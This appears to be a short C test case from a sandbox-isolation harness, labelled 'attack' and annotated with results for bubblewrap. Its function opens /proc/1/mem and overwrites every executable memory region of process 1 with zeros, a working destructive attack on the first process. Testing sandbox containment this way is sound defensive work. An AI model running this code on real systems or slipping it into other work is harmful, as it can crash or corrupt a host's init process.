// Overwrites the code of the first process, bubblewrap's own where there is one. It is contained as the program is, and
// can only end with it.
// verdict: accepted
// bubblewrap: runtime_error
bool attack()
{
    static char zeros[4096], line[512];
    int memory = open("/proc/1/mem", O_WRONLY);
    FILE *maps = fopen("/proc/1/maps", "r");
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char executable;
        if (sscanf(line, "%lx-%lx %*c%*c%c", &start, &end, &executable) == 3 && executable == 'x')
            for (; start < end; start += sizeof zeros)
                pwrite(memory, zeros, sizeof zeros, start);
    }
    if (memory >= 0)
        sleep(1); // it wakes up when something ends
    return false;
}
